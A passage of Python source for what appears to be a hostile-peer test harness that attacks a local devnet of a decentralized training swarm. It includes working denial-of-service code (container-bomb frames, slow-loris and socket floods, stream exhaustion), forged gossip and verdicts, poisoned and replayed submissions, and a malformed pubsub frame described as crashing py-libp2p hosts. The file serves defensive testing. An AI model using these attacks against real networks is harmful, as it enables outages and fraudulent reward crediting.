"""A hostile peer beside a running devnet: `python -m tests.hostile.attacker --devnet DIR --report OUT.json`.

Everything a peer controls is free to it: identities (a fresh secp256k1 key per connection), connections,
bytes, fields and timing. This process is a real py-libp2p peer (Noise, yamux, GossipSub, as honest nodes
speak) plus raw TCP sockets on the HTTP data plane, and runs these attacks at once against one target
(a validator) and the trainer's and relays' HTTP endpoints. Each is a function with rate and size knobs
(`Knobs`); the report counts what was sent and what came back, so a test or a benchmark can judge it.

- bomb: container-bomb SUBMIT frames from unstaked keys: a valid length prefix, then an array header
  claiming N items and N empty msgpack maps (16 MiB by default). A decoder that unpacks before it
  authenticates builds N Python lists (~64 B each) from N bytes.
- bloat: well-formed, signed, near-cap submissions (one completion carrying ~2000 proofs) from fresh
  unstaked keys, one per key: anything queued before the stake is read costs the victim disk.
- slow: holds SUBMIT and ACCEPTED streams open, trickling one byte of a frame that claims the cap every
  `slow_byte_interval_s`; a stream the victim drops is reopened at once (a fresh key once this one is
  refused), so a victim with a few slots in total serves nobody else.
- flood: many libp2p connections that do nothing; silent TCP sockets, slow-loris request heads and
  30 s long polls against every HTTP endpoint, from `source_ip` (127.0.0.2: loopback, but a different
  address from the honest nodes', so a per-address cap can tell them apart). A probe from 127.0.0.1
  fetches `/shards/1.0.0/stats` every second: its status codes are the honest client's view.
- gossip: an unstaked key signs CheckpointHeads and near-cap CheckpointManifests (`checkpoints`), junk
  LedgerEntries (`ledger`) and Verdicts accepting made-up submissions of honest workers (`verdicts`),
  published into the target. An observer host (another key) connected to every *other* node records which
  forged messages reach it and who forwarded them: a forwarded forgery is one the victims' gossip
  validation let through.
- meshsub: late in the window (0.9 x duration), one pubsub RPC frame of 16 bytes that is not protobuf,
  on a `/meshsub/1.1.0` stream from a fresh key. py-libp2p's pubsub read loop lets the DecodeError escape
  and it takes the whole host down; a node must contain it to a dropped stream (and a charge).
- poison: a staked attacker (the "poisoner", enrolled by `enroll_attackers`) sends honest submissions on
  the newest checkpoint with one field broken: a token id beyond the vocabulary, a token id past 2^63,
  logprob bytes one value short. The victim must reject it with a verdict and slash.
- replay: a staked attacker (the "replayer") that never generates twice. Choice: the cache is built on
  version 0, the base checkpoint, whose weights every node holds before the run starts, so a real
  attacker can build it offline; it holds a group for every task of the dataset with the seeds of the
  original sampling rule (sha256 of run, worker, task, index: no step, no counter), so any assignment on
  version 0 can be assembled from it without generating. While version 0 is fresh (within the run's
  async level) the replayer sends counters 1..`replay_counters` assembled from the cache, and one
  honestly generated submission (counter 0 on the newest version, the real worker code) sealed twice
  (two envelopes, two digests) to the target and, when the devnet has another validator, to that one.
  A victim must credit the twice-sealed assignment once and never credit an assembled one.
- forge (opt-in: not in the default `--attacks`): a staked validator outside the run's validator set (the
  "forger", enrolled by `enroll_forger`) connects to every node and gossips VerdictBatches of accepting
  verdicts for made-up workers on the newest version: counted, they would swell every worker's count of
  the swarm (`protocol.pacing.active_workers`) and shrink honest shares. Every node must refuse them
  (run-scoped authority, spec/gossip.md) and deliver none (tests/swarm/test_role_abuse_devnet.py).
  `--prepare` builds the cache alone (about 11 s of one core) and exits: run it before the nodes start.

Order: the replays go first (their window is the run's first versions); every other attack waits for them
(at most `HEAD_START_MAX_S`) and then runs for `--duration`; the poison comes at 0.5 and meshsub at 0.9 of
it: where they work they are one-shot crashes, so the rest is measured first.

Identities: the staked keys come from `KEYS_FILE` in the devnet folder, written by `enroll_attackers`
before the nodes start (the devnet harness has no hook for extra staked identities; this registers and
stakes them in the devnet's signed log exactly as `DevnetLedger.enroll` does for the role nodes).
"""

from __future__ import annotations

import argparse
import json
import secrets
import socket
import struct
import sys
import time
import urllib.error
import urllib.request
from collections import Counter
from collections.abc import AsyncIterator, Callable, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, fields, replace
from pathlib import Path
from typing import Any

import trio

from swarmnode.crypto.identity import NodeIdentity
from swarmnode.node.p2p.clock import wall_ms
from swarmnode.protocol import ids
from swarmnode.protocol.codec import decode, encode
from swarmnode.protocol.envelope import Envelope, envelope_digest, open_envelope, seal
from swarmnode.protocol.errors import ProtocolError, Reason
from swarmnode.protocol.ledger_messages import LedgerEntry
from swarmnode.protocol.messages import (
    CheckpointManifest,
    Completion,
    RolloutGroup,
    RolloutSubmission,
    ShardInfo,
    SubmitAck,
    Verdict,
    VerdictBatch,
)
from swarmnode.protocol.shards import PATH_PREFIX, STATS_PATH, manifest_head, manifest_path, shard_path
from swarmnode.protocol.types import KIB, MIB

KEYS_FILE = "hostile-keys.json"
CACHE_FILE = "hostile-replay-cache.bin"
ATTACKS = ("bomb", "bloat", "slow", "flood", "gossip", "meshsub", "poison", "replay")
OPT_IN_ATTACKS = ("forge",)  # run only when named in --attacks
LEGACY_SEED_DOMAIN = b"swarmnode/sampling/seed/v1"  # the sampling seed rule the replay cache relies on
FRAME_PREFIX = struct.Struct(">I")
MAX_GOSSIP_BYTES = 940 * KIB  # under the nodes' 960 KiB gossip envelope cap: near-cap, not over it
ACK_CAP = 4 * KIB
ACK_WAIT_S = 60.0  # how long `submit` waits for the ack
MANIFEST_WAIT_S = 240.0  # how long `wait_manifest` waits for any endpoint to serve a manifest
ASYNC_LEVEL = 2  # the devnet run's async level: version 0 is fresh until version 3 exists
MULTIADDR_IP = "/ip4/{ip}/tcp/0"
REOPEN_AFTER_REFUSAL_S = 2.0


@dataclass(frozen=True)
class Knobs:
    """Rates and sizes of every attack (defaults: the slow test's load)."""

    bomb_bytes: int = 16 * MIB
    bomb_frames: int = 4
    bomb_interval_s: float = 4.0
    bloat_bytes: int = 15 * MIB
    bloat_frames: int = 8
    slow_streams: int = 6  # per protocol (SUBMIT, ACCEPTED); the victim has 4 slots each today
    slow_byte_interval_s: float = 1.0
    libp2p_conns: int = 16
    http_silent: int = 280  # per endpoint; the server takes 256 connections in total today
    http_slowloris: int = 16
    http_long_polls: int = 16
    probe_interval_s: float = 1.0
    gossip_rate: float = 2.0  # forged messages per second per topic
    poison_kinds: tuple[str, ...] = ("vocab", "huge_token", "logprobs_short")
    replay_counters: int = 3
    source_ip: str = "127.0.0.2"
    forge_batches: int = 16  # forged VerdictBatches in all
    forge_verdicts: int = 256  # accepting verdicts per batch, each for a made-up worker
    forge_rate: float = 0.5  # forged batches per second

    @classmethod
    def from_args(cls, args: argparse.Namespace) -> Knobs:
        values = {f.name: getattr(args, f.name) for f in fields(cls)}
        values["poison_kinds"] = tuple(k for k in args.poison_kinds.split(",") if k)
        return cls(**values)


# --- the devnet, as a peer sees it ---------------------------------------------------------------


@dataclass(frozen=True)
class NodeInfo:
    name: str
    role: str
    peer_id: str
    addr: str
    address: bytes
    http_port: int


@dataclass(frozen=True)
class Swarm:
    """What the devnet folder tells an attacker: the run, every node's address and ports, the staked keys."""

    folder: Path
    run: str
    nodes: dict[str, NodeInfo]

    @classmethod
    def load(cls, folder: Path) -> Swarm:
        document = json.loads((folder / "devnet.json").read_text())
        nodes = {
            name: NodeInfo(
                name,
                node["role"],
                node["peer_id"],
                node["addr"],
                bytes.fromhex(node["address"][2:]) if node.get("address") else b"",
                int(node.get("http_port") or 0),
            )
            for name, node in document["nodes"].items()
        }
        return cls(folder, document["run"], nodes)

    def by_role(self, role: str) -> list[NodeInfo]:
        return [n for n in self.nodes.values() if n.role == role]

    def http_ports(self) -> dict[str, int]:
        return {
            n.name: n.http_port for n in self.nodes.values() if n.http_port and n.role in ("trainer", "relay")
        }

    def status(self, name: str) -> dict[str, Any]:
        try:
            return json.loads((self.folder / name / "data" / "status.json").read_text())
        except (OSError, ValueError):
            return {}


def enroll_attackers(devnet_ledger: Any, folder: Path) -> dict[str, NodeIdentity]:
    """Register and stake the poisoner and the replayer as workers (before the nodes start); write their
    keys to `folder/KEYS_FILE`. `devnet_ledger` is the devnet's `DevnetLedger`."""
    keys = {name: NodeIdentity(secrets.token_bytes(32)) for name in ("poisoner", "replayer")}
    devnet_ledger.enroll(
        [("worker", k) for k in keys.values()], {k.checksum_address: k.peer_id for k in keys.values()}
    )
    (folder / KEYS_FILE).write_text(json.dumps({name: k.private_key.hex() for name, k in keys.items()}))
    return keys


def enroll_forger(devnet_ledger: Any, folder: Path) -> NodeIdentity:
    """Register and stake the forger as a validator (before the nodes start, after the run is registered:
    it is eligible on the ledger but not in the run's validator set); add its key to `folder/KEYS_FILE`."""
    forger = NodeIdentity(secrets.token_bytes(32))
    devnet_ledger.enroll([("validator", forger)], {forger.checksum_address: forger.peer_id})
    path = folder / KEYS_FILE
    keys = json.loads(path.read_text()) if path.exists() else {}
    path.write_text(json.dumps({**keys, "forger": forger.private_key.hex()}))
    return forger


def load_keys(folder: Path) -> dict[str, NodeIdentity]:
    path = folder / KEYS_FILE
    if not path.exists():
        return {}
    return {name: NodeIdentity(bytes.fromhex(key)) for name, key in json.loads(path.read_text()).items()}


# --- the report ----------------------------------------------------------------------------------


@dataclass
class Report:
    """Counters per attack, plus a few named facts; written as JSON at the end."""

    started: float = field(default_factory=time.time)
    counts: dict[str, Counter[str]] = field(default_factory=dict)
    facts: dict[str, Any] = field(default_factory=dict)
    errors: list[str] = field(default_factory=list)

    def count(self, attack: str, what: str, n: int = 1) -> None:
        self.counts.setdefault(attack, Counter())[what] += n

    def note(self, attack: str, key: str, value: Any) -> None:
        self.facts.setdefault(attack, {})[key] = value

    def error(self, attack: str, exc: BaseException) -> None:
        """Keep the first errors of each attack: a noisy one must not crowd out a quiet one's only clue."""
        for leaf in leaves(exc):
            if sum(e.startswith(f"{attack}: ") for e in self.errors) < ERRORS_PER_ATTACK:
                self.errors.append(f"{attack}: {type(leaf).__name__}: {leaf}"[:300])

    def as_dict(self) -> dict[str, Any]:
        return {
            "started": self.started,
            "ended": time.time(),
            "counts": {k: dict(v) for k, v in self.counts.items()},
            "facts": self.facts,
            "errors": self.errors,
        }


# --- libp2p plumbing -----------------------------------------------------------------------------


def _libp2p() -> Any:
    """py-libp2p and the node's host builder, imported late (they are slow to import)."""
    from swarmnode.node.p2p import host

    return host


@asynccontextmanager
async def peer_host(identity: NodeIdentity | None = None, ip: str = "127.0.0.1") -> AsyncIterator[Any]:
    """A running libp2p host with `identity` (a fresh key by default); transport failures come out as
    one `PeerGone`, not an exception group."""
    host_mod = _libp2p()
    identity = identity or NodeIdentity(secrets.token_bytes(32))
    listen = [MULTIADDR_IP.format(ip=ip)]
    host = host_mod.build_host(identity, listen)
    async with contained(), host.run(host_mod.listen_addrs(listen)):
        yield host


async def dial(host: Any, node: NodeInfo) -> Any:
    """Connect to `node`; returns its libp2p peer id. Every call really dials: py-libp2p refuses, for 60 s, to
    dial a peer whose last dial failed (its negative cache), and an attacker keeps dialling a victim whose
    handshakes time out under the floods (the cache would leave one real try per minute)."""
    info = _libp2p().parse_peer_addr(node.addr)
    host.get_network().unblock_peer(info.peer_id)
    with trio.fail_after(10):
        await host.connect(info)
    return info.peer_id


async def open_stream(host: Any, peer: Any, protocol: str) -> Any:
    from libp2p.custom_types import TProtocol

    with trio.fail_after(10):
        return await host.new_stream(peer, [TProtocol(protocol)])


def transport_errors() -> tuple[type[BaseException], ...]:
    """What a dial, stream or host can raise when the victim drops, resets or refuses us."""
    return (EOFError, trio.TooSlowError, *_libp2p().TRANSPORT_ERRORS, PeerGone)


class PeerGone(Exception):
    """Stands for an exception group of transport errors only (the host's nursery wraps what it raises)."""


def leaves(exc: BaseException) -> list[BaseException]:
    if isinstance(exc, BaseExceptionGroup):
        return [leaf for inner in exc.exceptions for leaf in leaves(inner)]
    return [exc]


@asynccontextmanager
async def contained() -> AsyncIterator[None]:
    """Turn an exception group holding only transport errors into `PeerGone`; anything else propagates."""
    try:
        yield
    except BaseExceptionGroup as group:
        if all(isinstance(leaf, transport_errors()) for leaf in leaves(group)):
            raise PeerGone("; ".join(f"{type(e).__name__}: {e}"[:120] for e in leaves(group))) from None
        raise


async def read_reply(stream: Any, timeout: float) -> bytes:  # noqa: ASYNC109 - a timeout is an outcome here
    """One length-prefixed frame back, or b"" when the stream ends, is reset or stays silent for `timeout`
    seconds first (the scope sits inside the `except`: running out of time is an answer, not an error)."""
    from swarmnode.node.p2p.reqresp import FrameError, read_frame

    try:
        with trio.fail_after(timeout):
            return await read_frame(stream, max_size=ACK_CAP)
    except (FrameError, *transport_errors()):
        return b""


async def reset(stream: Any) -> None:
    try:
        await stream.reset()
    except transport_errors():
        pass


async def submit(host: Any, peer: Any, sealed: bytes, run: str) -> SubmitAck | None:
    """One SUBMIT exchange with an envelope sealed by the caller; the verified ack, or None. The ack is
    awaited `ACK_WAIT_S` at most."""
    stream = await open_stream(host, peer, ids.SUBMIT)
    try:
        await stream.write(FRAME_PREFIX.pack(len(sealed)) + sealed)
        data = await read_reply(stream, ACK_WAIT_S)
    finally:
        await reset(stream)
    if not data:
        return None
    try:
        return open_envelope(data, run=run, now_ms=wall_ms(), replay=None, expect=SubmitAck).message
    except ProtocolError:
        return None


class Sealer:
    """Seals envelopes with one key and a strictly increasing seq (microseconds, as nodes do)."""

    def __init__(self, identity: NodeIdentity, run: str) -> None:
        self.identity = identity
        self.run = run
        self._seq = time.time_ns() // 1000

    def __call__(self, message: Any) -> bytes:
        self._seq = max(self._seq + 1, time.time_ns() // 1000)
        return seal(self.identity, message, run=self.run, seq=self._seq, ts=wall_ms())


# --- frames and messages the attacks send (pure) --------------------------------------------------


def container_bomb(size: int) -> bytes:
    """`size` bytes of msgpack: an array32 header claiming size - 5 items, then that many empty maps."""
    count = size - 5
    return b"\xdd" + count.to_bytes(4, "big") + b"\x80" * count


def bloat_submission(run: str, version: int, root: bytes, size: int) -> RolloutSubmission:
    """A well-formed submission of about `size` bytes: one completion carrying near-cap proofs."""
    proof = 2 + 2 * 4096
    count = max(1, min(2048, size // (proof + 3)))
    completion = Completion(
        token_ids=(1,),
        logprobs=b"\x00" * 4,
        reward=0.0,
        advantage=0.0,
        seed=0,
        ended_with_eos=True,
        proofs=tuple(secrets.token_bytes(proof) for _ in range(count)),
    )
    group = RolloutGroup(task_id=secrets.token_bytes(32), prompt_ids=(1,), completions=(completion,))
    return RolloutSubmission(run=run, step=version << 32, checkpoint_version=version, checkpoint_root=root,
                             groups=(group,))


def forged_manifest(run: str, version: int, budget: int = MAX_GOSSIP_BYTES) -> CheckpointManifest:
    """A manifest of the next version, as big as gossip carries, signed later by a key that owns nothing."""
    def build(count: int) -> CheckpointManifest:
        shards = tuple(
            ShardInfo(name=f"model-{i:05d}-of-{count:05d}-{'x' * 40}.safetensors", size=1 << 30,
                      sha256=secrets.token_bytes(32))
            for i in range(count)
        )
        return CheckpointManifest(run=run, version=version, parent_version=max(0, version - 1),
                                  model_config_hash=secrets.token_bytes(32), total_size=count << 30,
                                  shards=shards, merkle_root=secrets.token_bytes(32), created_ms=wall_ms())

    probe = build(64)
    per_shard = len(encode(probe)) / 64
    count = min(8192, int((budget - 1024) / per_shard))
    return build(count)


def forged_verdict(run: str, worker: bytes, version: int) -> Verdict:
    """An acceptance of a submission nobody made, credited to `worker`, signed by a non-validator."""
    return Verdict(run=run, submission_digest=secrets.token_bytes(32), worker=worker, step=version << 32,
                   checkpoint_version=version, accepted=True, reason_code=0, detail="", failing_chunks=(),
                   tokens=1 << 20, mean_exp_mismatches=0.0, mean_mant_err=0.0)


def junk_ledger_entry(size: int = 64 * KIB) -> LedgerEntry:
    return LedgerEntry(index=secrets.randbelow(1 << 40), prev_hash=secrets.token_bytes(32), epoch=0,
                       op=secrets.token_bytes(size))


def poisoned(sub: RolloutSubmission, kind: str, vocab_size: int) -> RolloutSubmission:
    """`sub` with one field of its first completion broken the `kind` way (still canonical msgpack)."""
    group = sub.groups[0]
    first = group.completions[0]
    if kind == "vocab":
        broken = replace(first, token_ids=(vocab_size + 7, *first.token_ids[1:]))
    elif kind == "huge_token":
        broken = replace(first, token_ids=(2**63 + 1, *first.token_ids[1:]))
    elif kind == "logprobs_short":
        broken = replace(first, logprobs=first.logprobs[:-4])
    else:
        raise ValueError(f"unknown poison kind {kind!r}")
    groups = (replace(group, completions=(broken, *group.completions[1:])), *sub.groups[1:])
    return replace(sub, groups=groups)


def legacy_seed(run: str, worker: bytes, task_id: bytes, index: int) -> int:
    """The sampling seed as first specified: independent of the assignment (step, counter)."""
    def lp(data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + data

    import hashlib

    msg = LEGACY_SEED_DOMAIN + lp(run.encode()) + lp(worker) + lp(task_id) + index.to_bytes(4, "big")
    return int.from_bytes(hashlib.sha256(msg).digest()[:8], "big") >> 1


# --- generation (blocking; run in a thread) --------------------------------------------------------


class Generator:
    """The run's engine and tasks in the attacker: honest generation with the node's own code, a replay
    cache, and the newest checkpoint's weights fetched over HTTP like any worker would."""

    def __init__(self, swarm: Swarm) -> None:
        import torch

        from swarmnode.node.rl.engine import TransformersEngine
        from swarmnode.node.rl.run import DEVNET_MODEL, devnet_run

        torch.set_num_threads(1)
        self.engine = TransformersEngine.from_folder(DEVNET_MODEL)
        trainer = swarm.by_role("trainer")[0]
        self.setup = devnet_run(trainer.address, DEVNET_MODEL, created_ms=0, info=self.engine.info)
        if self.setup.descriptor.run != swarm.run:
            raise RuntimeError(
                f"the devnet runs {swarm.run!r}, the attacker knows {self.setup.descriptor.run!r}"
            )
        self.loaded = 0  # the version whose weights the engine holds (0: the base checkpoint)

    @property
    def vocab_size(self) -> int:
        return int(self.engine.info.vocab_size)

    def replay_cache(self, worker: bytes, limit: int = 0) -> dict[bytes, RolloutGroup]:
        """A group per dataset task on the base weights with seeds that ignore the assignment."""
        import torch

        from swarmnode.crypto.toploc import build_proofs
        from swarmnode.node.rl.grpo import group_advantages, length_target_reward
        from swarmnode.node.rl.rollouts import task_prompt_ids
        from swarmnode.node.rl.tasks import grade

        if self.loaded != 0:
            raise RuntimeError("the replay cache is built on the base weights")
        descriptor = self.setup.descriptor
        grpo, policy = descriptor.grpo, descriptor.policy
        cache: dict[bytes, RolloutGroup] = {}
        for task in self.setup.tasks[: limit or None]:
            prompt = list(task_prompt_ids(task, self.engine.tokenizer))
            seeds = [legacy_seed(descriptor.run, worker, task.task_id, i) for i in range(grpo.group_size)]
            made = self.engine.generate_group(
                prompt, grpo.group_size, seeds, grpo.max_new_tokens, grpo.temperature
            )
            rewards = [
                length_target_reward(grade(task, self.engine.tokenizer.completion_text(c.tokens)).reward,
                                     len(c.tokens), grpo.length_target, grpo.length_penalty)
                for c in made
            ]
            advantages = group_advantages(torch.tensor(rewards)).tolist()
            completions = tuple(
                Completion(
                    token_ids=tuple(c.tokens),
                    logprobs=struct.pack(
                        f"<{len(c.tokens)}f", *c.logprobs.detach().float().reshape(-1).tolist()
                    ),
                    reward=float(r),
                    advantage=float(a),
                    seed=c.seed,
                    ended_with_eos=c.ended_with_eos,
                    proofs=tuple(build_proofs(c.hidden_rows, k=policy.toploc_k, chunk=policy.toploc_chunk)),
                )
                for c, r, a in zip(made, rewards, advantages, strict=True)
            )
            cache[task.task_id] = RolloutGroup(task.task_id, tuple(prompt), completions)
        return cache

    def assemble(self, cache: dict[bytes, RolloutGroup], worker: bytes, version: int, root: bytes,
                 counter: int) -> RolloutSubmission | None:
        """The submission of assignment (version, counter) from the cache alone; None if a task is missing."""
        from swarmnode.node.rl.tasks import assign_tasks

        step = (version << 32) | counter
        tasks = assign_tasks(
            self.setup.dataset_ids, worker, step, self.setup.descriptor.grpo.prompts_per_step
        )
        if any(t not in cache for t in tasks):
            return None
        return RolloutSubmission(
            self.setup.descriptor.run, step, version, root, tuple(cache[t] for t in tasks)
        )

    def load(self, version: int, state: dict[str, Any]) -> None:
        self.engine.load_weights(state)
        self.loaded = version

    def honest(self, worker: bytes, version: int, root: bytes, counter: int) -> RolloutSubmission:
        """What an honest worker sends for this assignment (the node's own `build_submission`)."""
        from swarmnode.node.rl.rollouts import build_submission

        if self.loaded != version:
            raise RuntimeError(f"engine holds v{self.loaded}, not v{version}")
        setup = self.setup
        return build_submission(self.engine, setup.descriptor, setup.dataset, setup.dataset_ids, worker,
                                version, root, counter)


def swarm_cache(swarm: Swarm) -> Path:
    return swarm.folder / CACHE_FILE


def write_cache(path: Path, run: str, cache: dict[bytes, RolloutGroup]) -> None:
    """The replay cache as one canonical message (a submission holding every cached group)."""
    path.write_bytes(encode(RolloutSubmission(run, 0, 0, bytes(32), tuple(cache.values()))))


def read_cache(path: Path) -> dict[bytes, RolloutGroup]:
    if not path.exists():
        return {}
    return {g.task_id: g for g in decode(RolloutSubmission, path.read_bytes()).groups}


def prepare_cache(swarm: Swarm) -> int:
    """Offline, before the run: the replayer's cache on the base weights (blocking)."""
    keys = load_keys(swarm.folder)
    cache = Generator(swarm).replay_cache(keys["replayer"].address)
    write_cache(swarm_cache(swarm), swarm.run, cache)
    return len(cache)


def http_get(port: int, path: str, timeout: float = 10.0) -> bytes | None:
    """A plain GET on 127.0.0.1 (blocking); None on 204/404 or any failure."""
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=timeout) as reply:  # noqa: S310
            return reply.read() if reply.status == 200 else None
    except (urllib.error.URLError, OSError, ValueError):
        return None


def fetch_manifest(port: int, run: str, version: int | None = None) -> CheckpointManifest | None:
    """The trainer's signed manifest (the newest, or `version`); its signature is not our business."""
    path = f"{PATH_PREFIX}/{run}/latest/manifest" if version is None else manifest_path(run, version)
    data = http_get(port, path)
    if data is None:
        return None
    try:
        return decode(CheckpointManifest, decode(Envelope, data).body)
    except ProtocolError:
        return None


def fetch_weights(port: int, run: str, manifest: CheckpointManifest, scratch: Path) -> dict[str, Any]:
    """Download every shard of `manifest` from `port` and load the verified state dict (blocking)."""
    from swarmnode.node.dataplane.checkpoint import load_checkpoint

    directory = scratch / f"v{manifest.version}"
    directory.mkdir(parents=True, exist_ok=True)
    for info in manifest.shards:
        data = http_get(port, shard_path(run, manifest.version, info.name), timeout=30.0)
        if data is None:
            raise RuntimeError(f"shard {info.name} of v{manifest.version} not served")
        (directory / info.name).write_bytes(data)
    return load_checkpoint(directory, manifest)


# --- the attacks -----------------------------------------------------------------------------------


@dataclass
class Context:
    swarm: Swarm
    target: NodeInfo
    knobs: Knobs
    report: Report
    keys: dict[str, NodeIdentity]
    scratch: Path
    torch_lock: trio.Lock = field(default_factory=trio.Lock)
    generator: Generator | None = None
    manifest_port: int = 0  # the endpoint that served the last manifest: its shards come from there
    replays_sent: trio.Event = field(default_factory=trio.Event)  # the noisy attacks start after this

    def fetch_ports(self) -> list[int]:
        """Data-plane endpoints to fetch checkpoints from: validators first (the flood spares them), then the
        trainer and relays (the flood may make them answer 503, to us as to anyone)."""
        order = [
            *self.swarm.by_role("validator"), *self.swarm.by_role("trainer"), *self.swarm.by_role("relay")
        ]
        return [n.http_port for n in order if n.http_port]


async def bomb(ctx: Context) -> None:
    """Container-bomb SUBMIT frames, one fresh unstaked key each; times how long the victim takes to drop it.
    A stream refused at once (no free slot) is retried, up to `BOMB_TRIES` times per frame."""
    frame = container_bomb(ctx.knobs.bomb_bytes)
    ctx.report.note("bomb", "frame_bytes", len(frame))
    for _ in range(ctx.knobs.bomb_frames):
        for _ in range(BOMB_TRIES):
            started = time.monotonic()
            try:
                async with peer_host() as host:
                    peer = await dial(host, ctx.target)
                    stream = await open_stream(host, peer, ids.SUBMIT)
                    started = time.monotonic()
                    with trio.move_on_after(60):
                        await stream.write(FRAME_PREFIX.pack(len(frame)) + frame)
                        ctx.report.count("bomb", "frames_sent")
                        reply = await read_reply(stream, 30)
                        ctx.report.count("bomb", "answered" if reply else "dropped")
                    ctx.report.note("bomb", "last_drop_s", round(time.monotonic() - started, 3))
                    await reset(stream)
                    break
            except transport_errors() as exc:
                refused = time.monotonic() - started < 1.0
                ctx.report.count("bomb", "refused_at_once" if refused else "transport_errors")
                if not refused:
                    ctx.report.error("bomb", exc)
                    break
                await trio.sleep(0.5)
        await trio.sleep(ctx.knobs.bomb_interval_s)


async def bloat(ctx: Context) -> None:
    """Signed near-cap submissions from fresh unstaked keys, one per key, each on the newest version."""
    for _ in range(ctx.knobs.bloat_frames):
        manifest = await wait_manifest(ctx)
        identity = NodeIdentity(secrets.token_bytes(32))
        sub = bloat_submission(ctx.swarm.run, manifest.version, manifest.merkle_root, ctx.knobs.bloat_bytes)
        sealed = Sealer(identity, ctx.swarm.run)(sub)
        try:
            async with peer_host(identity) as host:
                peer = await dial(host, ctx.target)
                ack = await submit(host, peer, sealed, ctx.swarm.run)
        except transport_errors() as exc:
            ctx.report.count("bloat", "transport_errors")
            ctx.report.error("bloat", exc)
            continue
        ctx.report.count("bloat", "bytes_sent", len(sealed))
        ctx.report.count("bloat", f"ack_{ack.status}" if ack is not None else "no_ack")


async def slow(ctx: Context, duration: float) -> None:
    """Hold `slow_streams` SUBMIT and ACCEPTED streams each, trickling bytes of a frame that never ends."""
    from swarmnode.protocol.messages import AcceptedRequest

    caps = {ids.SUBMIT: RolloutSubmission.MAX_SIZE + 512, ids.ACCEPTED: AcceptedRequest.MAX_SIZE + 512}
    deadline = trio.current_time() + duration

    async def holder(protocol: str) -> None:
        name = protocol.split("/")[2]
        while trio.current_time() < deadline:
            try:
                async with peer_host() as host:
                    peer = await dial(host, ctx.target)
                    refused_in_a_row = 0
                    while trio.current_time() < deadline and refused_in_a_row < 3:
                        stream = await open_stream(host, peer, protocol)
                        opened = time.monotonic()
                        ctx.report.count("slow", f"{name}_opened")
                        try:
                            await stream.write(FRAME_PREFIX.pack(caps[protocol]))
                            while trio.current_time() < deadline:
                                await trio.sleep(ctx.knobs.slow_byte_interval_s)
                                await stream.write(b"\x80")
                        except transport_errors():
                            pass
                        held = time.monotonic() - opened
                        ctx.report.count("slow", f"{name}_held_ms", int(held * 1000))
                        refused_in_a_row = refused_in_a_row + 1 if held < 0.5 else 0
                        await reset(stream)
                    ctx.report.count("slow", f"{name}_fresh_keys")
            except transport_errors() as exc:
                ctx.report.count("slow", f"{name}_transport_errors")
                ctx.report.error("slow", exc)
                await trio.sleep(0.5)

    async with trio.open_nursery() as nursery:
        for protocol in (ids.SUBMIT, ids.ACCEPTED):
            for _ in range(ctx.knobs.slow_streams):
                nursery.start_soon(holder, protocol)


async def flood(ctx: Context, duration: float) -> None:
    """Idle libp2p connections, silent/slow-loris/long-poll HTTP sockets, and the honest probe's view."""
    deadline = trio.current_time() + duration
    knobs = ctx.knobs

    async def idle_connection() -> None:
        while trio.current_time() < deadline:
            try:
                async with peer_host() as host:
                    await dial(host, ctx.target)
                    ctx.report.count("flood", "libp2p_connected")
                    peer_id = _libp2p().parse_peer_addr(ctx.target.addr).peer_id
                    # polls libp2p's peer set, which has no event to wait on
                    while trio.current_time() < deadline and peer_id in host.get_connected_peers():  # noqa: ASYNC110
                        await trio.sleep(1.0)
                    if trio.current_time() < deadline:
                        ctx.report.count("flood", "libp2p_dropped")
            except transport_errors() as exc:
                ctx.report.count("flood", "libp2p_errors")
                ctx.report.error("flood", exc)
                await trio.sleep(1.0)

    async def connect(port: int) -> trio.SocketStream:
        sock = trio.socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        await sock.bind((knobs.source_ip, 0))
        await sock.connect(("127.0.0.1", port))
        return trio.SocketStream(sock)

    async def hold_socket(port: int, kind: str) -> None:
        while trio.current_time() < deadline:
            try:
                stream = await connect(port)
            except OSError:
                ctx.report.count("flood", f"http_{kind}_refused")
                await trio.sleep(0.5)
                continue
            opened = time.monotonic()
            ctx.report.count("flood", f"http_{kind}_opened")
            try:
                async with stream:
                    if kind == "slowloris":
                        await stream.send_all(f"GET {STATS_PATH} HTTP/1.1\r\nHost: a\r\n".encode())
                    elif kind == "long_poll":
                        path = f"{PATH_PREFIX}/{ctx.swarm.run}/latest/manifest?after={10**18}&wait=30"
                        await stream.send_all(f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
                    while trio.current_time() < deadline:
                        with trio.move_on_after(2.0):
                            if not await stream.receive_some(4096) and kind != "long_poll":
                                break
                        if kind == "slowloris":
                            await stream.send_all(b"X-a: b\r\n")
            except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
                pass
            held = time.monotonic() - opened
            ctx.report.count("flood", f"http_{kind}_held_ms", int(held * 1000))
            # turned away at once (a 503): wait before the next try, or the churn only burns both CPUs
            await trio.sleep(REOPEN_AFTER_REFUSAL_S if held < 1.0 else 0.2)

    async def probe(name: str, port: int) -> None:
        while trio.current_time() < deadline:
            status = await trio.to_thread.run_sync(probe_once, port)
            ctx.report.count("probe", f"{name}_{status}")
            await trio.sleep(knobs.probe_interval_s)

    async with trio.open_nursery() as nursery:
        for _ in range(knobs.libp2p_conns):
            nursery.start_soon(idle_connection)
        for name, port in ctx.swarm.http_ports().items():
            nursery.start_soon(probe, name, port)
            for kind, count in (("silent", knobs.http_silent), ("slowloris", knobs.http_slowloris),
                                ("long_poll", knobs.http_long_polls)):
                for _ in range(count):
                    nursery.start_soon(hold_socket, port, kind)


def probe_once(port: int, timeout: float = 5.0) -> str:
    """An honest fetch of the stats path from 127.0.0.1: the status code, or what went wrong."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
            sock.sendall(f"GET {STATS_PATH} HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n".encode())
            head = sock.recv(64)
    except TimeoutError:
        return "timeout"
    except OSError:
        return "refused"
    parts = head.split(b" ", 2)
    return parts[1].decode(errors="replace") if len(parts) > 1 and head.startswith(b"HTTP/") else "reset"


async def gossip(ctx: Context, duration: float) -> None:
    """Forged-signer messages on three topics into the target; an observer on the other nodes counts
    which of them were forwarded, and by whom."""
    from libp2p.custom_types import TProtocol
    from libp2p.pubsub.gossipsub import PROTOCOL_ID, PROTOCOL_ID_V11, GossipSub
    from libp2p.pubsub.pubsub import Pubsub
